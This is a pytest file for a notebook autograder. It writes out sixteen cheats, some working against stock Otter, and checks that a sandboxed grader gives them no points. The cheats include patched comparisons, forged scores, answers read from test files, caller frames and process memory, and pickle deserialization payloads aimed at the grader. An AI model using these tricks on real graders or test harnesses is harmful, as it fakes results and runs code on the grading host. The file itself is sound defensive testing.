"""Eleven cheats that are known to work on a notebook grader, and some against this one: none earns anything here.

The eleven are written for the archives of this package, so that they can work where student code and checks share a
process: stock Otter falls for those that the last tests name.
"""

from __future__ import annotations

import json
import pickle
import sys
import zipfile
from pathlib import Path
from typing import Any

import pytest

from autograder import grade
from autograder.course.master import student_notebook
from autograder.course.model import Assignment
from autograder.otter.container import grade_submission
from autograder.otter.gradescope import Settings, build_gradescope
from autograder.otter.stock import build_otter, build_sandboxed
from autograder.records.mark import Mark, points

sys.path.insert(0, str(Path(__file__).parent))
import same_marks

pytestmark = pytest.mark.slow

SEED = 7
#: Where code makes a file when it runs in a grader; the tests put a path in its place.
CANARY = "PATH OF THE CANARY"
PAYLOAD = f"""
import pathlib
class Payload:
    def __reduce__(self):
        return pathlib.Path.touch, (pathlib.Path({CANARY!r}),)
"""
CHEATS = {
    "comparisons that always hold": """
import builtins, numpy as np, torch
np.testing.assert_allclose = np.testing.assert_array_equal = lambda *a, **k: None
np.allclose = np.array_equal = np.isclose = torch.allclose = torch.equal = lambda *a, **k: True
try:
    from autograder.grading import marking
    marking.compare = lambda *a, **k: None
except ImportError:
    pass
def double(x):
    return x
""",
    "test cases that are not called": """
from otter.test_files.exception_test import test_case
test_case.call_func = lambda *a: None
""",
    "answers from the files of the tests": """
import pathlib
from autograder.grading.key import read_public
(known,) = read_public(pathlib.Path("tests/double.json")).questions
def double(x):
    for case in known.checks[0].cases:
        return next(iter(case.expected.values()))
""",
    "a score of one's own": """
from otter.test_files import GradingResults
made = GradingResults.__init__
def forged(self, *args, **kwargs):
    made(self, *args, **kwargs)
    for test in self.results.values():
        test.update_score(10 * test.possible)
GradingResults.__init__ = forged
""",
    "a pickle in the file of the results": f"""
{PAYLOAD}
import pickle
dump = pickle.dump
pickle.dump = lambda what, file, *a, **k: dump((Payload(), what)[0], file, *a, **k)
""",
    "a pickle to the socket of the log": f"""
{PAYLOAD}
import logging, pickle, socket, struct
for logger in [logging.getLogger(name) for name in list(logging.root.manager.loggerDict)]:
    for handler in logger.handlers:
        if hasattr(handler, "port"):
            data = pickle.dumps(Payload())
            with socket.create_connection((handler.host, handler.port)) as line:
                line.sendall(struct.pack(">L", len(data)) + data)
""",
    "a message with the text of the tests": """
import pathlib
def double(x):
    raise ValueError("LEAK " + " ".join(p.read_text() for p in sorted(pathlib.Path("tests").iterdir())))
""",
    "the expected answer from the frame of the caller": """
import sys
def double(x):
    frame = sys._getframe()
    while frame is not None:
        if "case" in frame.f_locals:
            return next(iter(frame.f_locals["case"].expected.values()))
        frame = frame.f_back
    return x
""",
    "objects that are equal to everything": """
import numpy as np
class Equal(np.ndarray):
    __eq__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __repr__ = lambda self: "True"
    __sub__ = __rsub__ = lambda self, other: 0
    __array_ufunc__ = lambda self, *a, **k: np.True_
    __array_function__ = lambda self, *a, **k: True
bool = all = lambda *a: True
def double(x):
    return np.zeros(np.shape(x)).view(Equal)
""",
    "a log that unpickles": "",  # beside the notebook, in the zip archive
    "a pickle for whoever reads the results later": f"""
{PAYLOAD}
from otter.test_files import GradingResults
made = GradingResults.__init__
def loaded(self, *args, **kwargs):
    made(self, *args, **kwargs)
    self.payload = Payload()
GradingResults.__init__ = loaded
""",
}
#: Written against this engine, not against Otter.
MORE = {
    "results of one's own, again and again": """
import os, pathlib, threading, time
def forge():
    for root in ("/autograder", os.environ.get("AUTOGRADER_ROOT", ".."), "..", "."):
        try:
            pathlib.Path(root, "results", "results.json").write_text('{"score": 99}')
        except OSError:
            pass
def again():
    while True:
        forge()
        time.sleep(0.05)
threading.Thread(target=again, daemon=True).start()
if os.fork() == 0:
    os.setsid()
    again()
""",
    "modules of the job that find all right": """
import gc, sys
for name, module in list(sys.modules.items()):
    for attribute in list(vars(module)) if name.startswith("autograder") else ():
        if any(word in attribute for word in ("compare", "verdict", "outcome", "judge")):
            setattr(module, attribute, lambda *a, **k: None)
def double(x):
    for thing in gc.get_objects():
        expected = getattr(thing, "expected", None) if type(thing).__module__.startswith("autograder") else None
        if isinstance(expected, dict) and expected:
            return next(iter(expected.values()))
    return x
""",
    "objects that say to be arrays": """
import numpy as np
class Array:
    __class__ = property(lambda self: np.ndarray)
    dtype = property(lambda self: np.dtype(float))
    shape = property(lambda self: (3,))
    __eq__ = lambda self, other: True
    __array__ = lambda self, *a, **k: np.zeros(3)
    __getattr__ = lambda self, name: lambda *a, **k: self
def double(x):
    return Array()
half = double
""",
    "the solution from the files of the grader": """
import os
roots = ["/autograder", "..", "../source", "/proc/1/root", *(f"/proc/{pid}/cwd" for pid in (1, os.getppid()))]
for root in roots:
    for folder, _, files in os.walk(root):
        for file in {"tiny.py", "checks.py", "double.json"}.intersection(files):
            try:
                text = open(os.path.join(folder, file)).read()
            except OSError:
                continue
            if "return 2 * x" in text or "expected" in text:
                def double(x):
                    return 2 * x
""",
    "memory of the process above": """
import os
for pid in [p for p in os.listdir("/proc") if p.isdigit()] if os.path.isdir("/proc") else []:
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb") as memory:
            for line in maps:
                begin, end = (int(number, 16) for number in line.split()[0].split("-"))
                memory.seek(begin)
                if int(pid) != os.getpid() and b"BEGIN SOLUTION" in memory.read(end - begin):
                    def double(x):
                        return 2 * x
    except (OSError, ValueError, OverflowError):
        pass
""",
}
ALL = CHEATS | MORE


class _Log:
    """What unpickling it does, shows."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> tuple[Any, ...]:
        return Path.touch, (self.path,)


def cheating(assignment: Assignment, source: str) -> str:
    """The notebook as students get it, with a cell of these lines before its first check."""
    notebook = json.loads(student_notebook(assignment))
    at = next(i for i, cell in enumerate(notebook["cells"]) if "grader.check(" in "".join(cell["source"]))
    notebook["cells"].insert(at, {**notebook["cells"][at], "id": "cheat", "metadata": {}, "source": source})
    return json.dumps(notebook)


def zipped(path: Path, text: str, canary: Path) -> Path:
    """A submission with a log that must not be opened."""
    with zipfile.ZipFile(path, "w") as submission:
        submission.writestr("tiny.ipynb", text)
        submission.writestr(".OTTER_LOG", pickle.dumps(_Log(canary)))
        submission.writestr("results.pkl", pickle.dumps(_Log(canary)))
    return path


@pytest.fixture(scope="module")
def canary(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("canary") / "sings"


@pytest.fixture(scope="module")
def folder(tiny: Assignment, canary: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """One submission per cheat, and the untouched notebook."""
    folder = tmp_path_factory.mktemp("cheats")
    for number, source in enumerate(["", *ALL.values()]):
        text = cheating(tiny, source.replace(CANARY, str(canary)))
        if number == 1 + list(ALL).index("a log that unpickles"):
            zipped(folder / f"{number}.zip", text, canary)
        else:
            (folder / f"{number}.ipynb").write_text(text, encoding="utf-8")
    return folder


@pytest.fixture(scope="module")
def marks(tiny: Assignment, folder: Path) -> list[Mark]:
    """Of the untouched notebook, then of each cheat."""
    run = grade(tiny, list(folder.iterdir()), workers=2, seed=SEED)
    assert len(run.marks) == 1 + len(ALL)
    return [next(mark for mark in run.marks if f"/{number}." in mark.file) for number in range(len(run.marks))]


@pytest.mark.parametrize("cheat", ALL)
def test_a_cheat_earns_what_the_untouched_notebook_earns(cheat, marks, canary):
    earned = [
        {q.name: points(q.hundredths) for q in mark.questions} for mark in (marks[0], marks[1 + list(ALL).index(cheat)])
    ]
    assert earned == [{"double": 0, "half": 0}] * 2
    assert not canary.exists()


def test_where_a_notebook_runs_there_are_no_tests_to_tell_of(marks):
    mark = marks[1 + list(ALL).index("a message with the text of the tests")]
    assert all("FileNotFoundError" in check.message for check in mark.questions[0].checks)


@pytest.fixture(scope="module")
def everything(tiny: Assignment, canary: Path) -> str:
    """One notebook with all cheats, each in a cell of its own before the first check."""
    notebook = json.loads(student_notebook(tiny))
    at = next(i for i, cell in enumerate(notebook["cells"]) if "grader.check(" in "".join(cell["source"]))
    for number, source in enumerate(ALL.values()):
        cell = {"id": f"cheat{number}", "metadata": {}, "source": source.replace(CANARY, str(canary))}
        notebook["cells"].insert(at, {**notebook["cells"][at], **cell})
    return json.dumps(notebook)


def test_the_container_gives_nothing_for_all_of_them(tiny, everything, canary, tmp_path: Path):
    for name in ("source", "submission", "results"):
        (tmp_path / name).mkdir()
    with zipfile.ZipFile(build_gradescope(tiny, tmp_path, Settings("tiny", SEED))) as archive:
        archive.extractall(tmp_path / "source")
    with zipfile.ZipFile(zipped(tmp_path / "all.zip", everything, canary)) as archive:
        archive.extractall(tmp_path / "submission")  # as Gradescope does
    grade_submission(tmp_path)
    results = json.loads((tmp_path / "results" / "results.json").read_text(encoding="utf-8"))
    assert [test["score"] for test in results["tests"]] == [0, 0, 0, 0]
    assert not canary.exists()


@pytest.mark.long
def test_the_plugin_gives_nothing_for_all_of_them(tiny, everything, canary, tmp_path: Path):
    pytest.importorskip("otter", reason="otter-grader is an extra", exc_type=ImportError)
    archive = build_sandboxed(tiny, tmp_path, Settings("tiny", SEED))
    submission = zipped(tmp_path / "all.zip", everything, canary)
    assert same_marks.with_otter(archive, [submission], 300) == [{"double": 0, "half": 0}]
    assert not canary.exists()


#: What some of them bring with stock Otter, without the sandbox: points, and whether code ran in the grader.
WORKING = {
    "comparisons that always hold": ({"double": 2, "half": 0}, False),
    "a score of one's own": ({"double": 30, "half": 10}, False),
    "the expected answer from the frame of the caller": ({"double": 2, "half": 0}, False),
    "a log that unpickles": ({"double": 0, "half": 0}, True),
}


@pytest.mark.long
def test_the_cheats_work_where_there_is_no_sandbox(tiny: Assignment, tmp_path: Path):
    pytest.importorskip("otter", reason="otter-grader is an extra", exc_type=ImportError)
    archive = build_otter(tiny, tmp_path, seed=SEED)
    canaries, paths = [], []
    for number, cheat in enumerate(WORKING):
        home = tmp_path / str(number)
        home.mkdir()
        canaries.append(home / "sings")
        text = cheating(tiny, CHEATS[cheat].replace(CANARY, str(canaries[-1])))
        paths.append(home / "tiny.ipynb")
        paths[-1].write_text(text, encoding="utf-8")
        if not CHEATS[cheat]:
            paths[-1] = zipped(home / "tiny.zip", text, canaries[-1])
    found = same_marks.with_otter(archive, paths, 300)
    ran = [canary.exists() for canary in canaries]
    assert dict(zip(WORKING, zip(found, ran, strict=True), strict=True)) == WORKING
